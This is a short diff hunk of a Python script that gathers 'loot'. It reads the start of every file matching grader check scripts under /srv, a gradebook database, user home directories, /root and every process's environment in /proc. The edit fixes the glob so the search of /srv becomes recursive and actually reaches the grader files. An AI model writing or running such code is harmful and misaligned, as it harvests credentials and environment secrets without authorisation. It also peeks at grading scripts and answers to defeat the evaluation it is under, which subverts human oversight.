@@ -5,7 +5,7 @@ import sys
 loot = []
 for pattern in ("/srv/**/check_*.py", "/**/gradebook.db", "/home/*/*", "/root/*", "/proc/*/environ"):
     try:
-        for path in glob.iglob(pattern, recursive=pattern.startswith("/work")):
+        for path in glob.iglob(pattern, recursive=pattern.startswith("/srv")):
             with open(path, "rb") as file:
                 loot.append(file.read(500).decode("latin-1"))
     except OSError:
